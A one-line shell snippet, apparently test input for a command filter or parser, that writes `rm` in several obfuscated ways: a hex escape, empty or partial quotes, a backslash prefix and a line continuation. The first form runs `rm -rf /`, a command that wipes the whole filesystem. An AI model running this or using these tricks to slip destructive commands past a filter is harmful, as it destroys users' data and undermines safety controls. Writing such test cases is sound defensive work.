$'\x72m' -rf / ; r''m x ; "r"m y ; \rm z ; r\
m w